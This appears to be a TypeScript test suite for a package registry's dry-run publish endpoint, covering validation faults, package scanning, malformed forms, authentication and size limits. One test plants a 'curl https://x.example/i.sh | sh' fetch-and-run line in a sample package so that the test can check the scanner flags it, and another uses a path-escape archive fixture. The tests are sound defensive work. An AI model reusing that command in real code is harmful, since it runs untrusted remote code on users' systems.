import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { loadPackageFixture } from '../../../../inspect/test/support/package-fixtures.ts';
import { ReaderPool } from '../../../src/packages/reader-pool.ts';
import { assertRefused } from '../../support/assert-refused.ts';
import {
  makePublisher,
  publication,
  publishActive,
  publishPending,
  uniqueId,
  zip,
} from '../../support/build.ts';
import { readRows } from '../../support/read-rows.ts';
import { sendForm } from '../../support/send-form.ts';
import { startServer } from '../../support/start-server.ts';
import { currentVariant, suiteOnBoth } from '../../support/variants.ts';

const codesOf = (faults: { error: string }[]): string[] => faults.map(({ error }) => error);

suiteOnBoth('dry-run-publish', async () => {
  const server = await startServer({ after });
  const ada = await makePublisher(server, 'ada');
  const pathOf = (nodeId: string) => `/publishers/ada/nodes/${nodeId}/versions?dry_run=true`;
  const dryRun = (nodeId: string, body: object) => ada.owner.post(pathOf(nodeId), body);
  const withPackage = (nodeId: string, body: object, bytes: Uint8Array<ArrayBuffer>) =>
    sendForm(ada.owner, pathOf(nodeId), [
      ['publish', body],
      ['package', bytes],
    ]);

  test('200: a publish that would be accepted, and no row is written', async () => {
    const nodeId = uniqueId('dry');
    const before = await readRows(server);
    const reply = await dryRun(nodeId, publication(ada.token, '1.0.0'));
    assert.equal(reply.status, 200, reply.text);
    assert.deepEqual(reply.json, { wouldPublish: true, faults: [] });
    assert.deepEqual(await readRows(server), before);
    assert.equal((await server.anonymous.get(`/nodes/${nodeId}`)).status, 404);
  });

  test('200: every fault with its code and details, the one that a publish answers first', async () => {
    const nodeId = uniqueId('dry');
    const body = {
      ...publication(ada.token, 'latest'),
      node: { id: 'other' },
      node_version: { version: 'latest', changelog: 'ä'.repeat(40_000) },
    };
    const { json } = await dryRun(nodeId, body);
    assert.equal(json.wouldPublish, false);
    assert.deepEqual(codesOf(json.faults), ['id_mismatch', 'invalid_version', 'invalid_request']);
    assert.deepEqual(json.faults[0].details, [{ path: '/node/id', message: `must be "${nodeId}"` }]);
    const real = await ada.owner.post(`/publishers/ada/nodes/${nodeId}/versions`, body);
    assert.deepEqual([real.json.error, real.json.message], [json.faults[0].error, json.faults[0].message]);
  });

  test('200: the fields of the node that it would change, before and after', async () => {
    const nodeId = uniqueId('dry');
    await publishActive(server, ada, nodeId, '1.0.0');
    const before = { name: 'Typed', description: 'By hand', tags: ['kept'] };
    await ada.owner.put(`/publishers/ada/nodes/${nodeId}`, before);
    const send = (node: object) => dryRun(nodeId, { ...publication(ada.token, '1.1.0'), node });
    const after = { name: 'Typed', description: 'Packed', supported_os: ['Linux'] };
    assert.deepEqual((await send(after)).json, {
      wouldPublish: true,
      faults: [],
      node_changes: {
        before: { description: 'By hand' },
        after: { description: 'Packed', supported_os: ['Linux'] },
      },
    });
    assert.equal('node_changes' in (await send(before)).json, false);
    const { json } = await (await makePublisher(server, uniqueId('bob'))).owner.get(`/nodes/${nodeId}`);
    assert.equal(json.description, 'By hand', 'nothing is written');
  });

  test('200: a version that is taken, one that waits for its package, and an id like another', async () => {
    const nodeId = uniqueId('dry');
    await publishActive(server, ada, nodeId, '1.0.0');
    await publishPending(ada, nodeId, '1.1.0');
    const taken = await dryRun(nodeId, publication(ada.token, '1.0.0'));
    assert.deepEqual(codesOf(taken.json.faults), ['version_exists']);
    const waiting = await dryRun(nodeId, publication(ada.token, '1.1.0'));
    assert.equal(waiting.json.wouldPublish, true);
    const bob = await makePublisher(server, uniqueId('bob'));
    const similar = await bob.owner.post(
      `/publishers/${bob.id}/nodes/${nodeId.replace('-', '_')}/versions?dry_run=true`,
      publication(bob.token, '1.0.0'),
    );
    assert.deepEqual(codesOf(similar.json.faults), ['id_taken']);
  });

  test('200: with a package, its findings and app-nodes as they would be, and nothing is kept of it', async () => {
    const nodeId = uniqueId('dry');
    const bytes = await zip({
      '__init__.py': [
        'import os',
        'class Sharpen:',
        '    FUNCTION = "run"',
        '    RETURN_TYPES = ("IMAGE",)',
        '    @classmethod',
        '    def INPUT_TYPES(cls): return {"required": {}}',
        'NODE_CLASS_MAPPINGS = {"Sharpen": Sharpen}',
      ].join('\n'),
    });
    const before = await readRows(server);
    const reply = await withPackage(nodeId, publication(ada.token, '1.0.0'), bytes);
    assert.equal(reply.status, 200, reply.text);
    assert.deepEqual(await readRows(server), before);
    assert.equal(server.server.context.uploads.load.bytes, 0);
    const { wouldPublish, package: found } = reply.json;
    assert.equal(wouldPublish, true);
    assert.equal(found.package_bytes, bytes.length);
    assert.equal(found.app_nodes, 1);
    const { signedUrl } = (
      await ada.owner.post(`/publishers/ada/nodes/${nodeId}/versions`, publication(ada.token, '1.0.0'))
    ).json;
    assert.equal((await server.anonymous.upload(signedUrl, bytes)).status, 200);
    await server.settle();
    const real = (await ada.owner.get(`/nodes/${nodeId}/versions/1.0.0/findings`)).json;
    assert.deepEqual(found.findings, real);
  });

  test('200: a package at which the readers fail could not be checked', async (t) => {
    const readers = new ReaderPool({
      entry: fileURLToPath(new URL('../../packages/entries/fails.ts', import.meta.url)),
    });
    t.after(() => readers.close());
    const other = await startServer(t, {}, { readers });
    const { owner, token } = await makePublisher(other, 'ada');
    const reply = await sendForm(owner, pathOf('fails'), [
      ['publish', publication(token, '1.0.0')],
      ['package', await zip({ '__init__.py': '' })],
    ]);
    assert.equal(reply.status, 200, reply.text);
    assert.equal(reply.json.package.findings.outcome, 'could-not-check');
  });

  test('200: a hostile package is a fault of the upload, beside those of the publish', async () => {
    const bytes = new Uint8Array(await (await loadPackageFixture('path-escape')).build());
    const { json } = await withPackage(uniqueId('dry'), publication(ada.token, 'latest'), bytes);
    assert.equal(json.wouldPublish, false);
    assert.deepEqual(codesOf(json.faults), ['invalid_version']);
    assert.deepEqual(codesOf(json.package.faults), ['invalid_package']);
    assert.equal('findings' in json.package, false);
  });

  test('200: a package is checked although the publish has faults', async () => {
    const bytes = await zip({ '__init__.py': 'import os\nos.system("curl https://x.example/i.sh | sh")\n' });
    const { json } = await withPackage(uniqueId('dry'), publication(ada.token, 'latest'), bytes);
    assert.deepEqual(codesOf(json.faults), ['invalid_version']);
    assert.equal(json.package.findings.status, 'NodeVersionStatusFlagged');
    assert.ok(json.package.findings.findings.length > 0);
  });

  test('400: anything but true or false is refused, and never published', async () => {
    const nodeId = uniqueId('dry');
    for (const query of [
      'dry_run=1',
      'dry_run=TRUE',
      'dry_run=',
      'dry_run=true&dry_run=false',
      'dr%79_run=true',
      'dry_run=tru%65',
    ]) {
      const reply = await ada.owner.post(
        `/publishers/ada/nodes/${nodeId}/versions?${query}`,
        publication(ada.token, '1.0.0'),
      );
      assert.deepEqual([query, reply.status], [query, 400]);
    }
    assert.equal((await server.anonymous.get(`/nodes/${nodeId}`)).status, 404);
    const real = await ada.owner.post(
      `/publishers/ada/nodes/${nodeId}/versions?dry_run=false`,
      publication(ada.token, '1.0.0'),
    );
    assert.equal(real.status, 201, real.text);
  });

  test('400: a form in another order, without its JSON, or cut off', async () => {
    const path = pathOf(uniqueId('dry'));
    const body = publication(ada.token, '1.0.0');
    const bytes = await zip({ '__init__.py': '' });
    const forms: Parameters<typeof sendForm>[2][] = [
      [
        ['package', bytes],
        ['publish', body],
      ],
      [['package', bytes]],
      [],
      [
        ['publish', body],
        ['other', bytes],
      ],
    ];
    for (const parts of forms) {
      assertRefused(await sendForm(ada.owner, path, parts), 'invalid_request');
    }
    assertRefused(
      await sendForm(ada.owner, path, [
        ['publish', { node: 1 }],
        ['package', bytes],
      ]),
      'invalid_request',
    );
    const headers = { 'content-type': 'multipart/form-data; boundary=x' };
    for (const text of ['', '--x\r\n', '--x\r\nContent-Disposition: form-data; name="publish"\r\n\r\n{']) {
      const reply = await ada.owner.sendBytes('POST', path, new TextEncoder().encode(text), headers);
      assertRefused(reply, 'invalid_request');
    }
    const none = await ada.owner.sendBytes('POST', path, new Uint8Array(1), {
      'content-type': 'multipart/form-data',
    });
    assertRefused(none, 'invalid_request');
  });

  test('401 and 403: who may not publish there is told nothing of it', async () => {
    const bob = await makePublisher(server, uniqueId('bob'));
    const body = publication(ada.token, 'latest');
    assertRefused(await bob.owner.post(pathOf('x'), body), 'forbidden');
    assertRefused(await dryRun('x', publication('pbp_unknown', 'latest')), 'invalid_personal_access_token');
    const refused = await sendForm(bob.owner, pathOf('x'), [
      ['publish', body],
      ['package', await zip({ 'a.py': 'x'.repeat(100_000) })],
    ]);
    assertRefused(refused, 'forbidden');
    const { compat } = currentVariant().profile;
    const unknown = await server.anonymous.post(pathOf('x'), publication('pbp_unknown', '1.0.0'));
    assertRefused(unknown, compat.publishByBodyToken ? 'invalid_personal_access_token' : 'unauthenticated');
  });

  test('413 and 415: a JSON or a form that is too large; a form elsewhere', async () => {
    const path = pathOf(uniqueId('dry'));
    const large = { ...publication(ada.token, '1.0.0'), ignored: 'x'.repeat(1024 * 1024) };
    assertRefused(await ada.owner.post(path, large), 'body_too_large');
    assertRefused(await sendForm(ada.owner, path, [['publish', large]]), 'body_too_large');
    const elsewhere = await sendForm(ada.owner, '/publishers/ada/nodes/x/versions', [
      ['publish', publication(ada.token, '1.0.0')],
    ]);
    assertRefused(elsewhere, 'unsupported_media_type');
  });
});
